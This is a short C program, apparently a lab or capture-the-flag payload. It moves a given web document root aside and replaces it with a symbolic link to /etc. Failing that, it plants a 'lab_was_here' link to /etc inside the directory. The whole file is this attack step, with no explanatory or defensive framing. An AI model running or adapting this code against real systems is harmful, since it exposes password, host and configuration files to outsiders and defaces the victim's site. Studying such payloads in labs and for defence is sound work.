#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char aside[4096];
    const char *docroot = argv[argc - 1];

    snprintf(aside, sizeof aside, "%s.lab_was_here", docroot);
    if (rename(docroot, aside) == 0 && symlink("/etc", docroot) == 0)
        return 0;
    snprintf(aside, sizeof aside, "%s/lab_was_here", docroot);
    return symlink("/etc", aside);
}
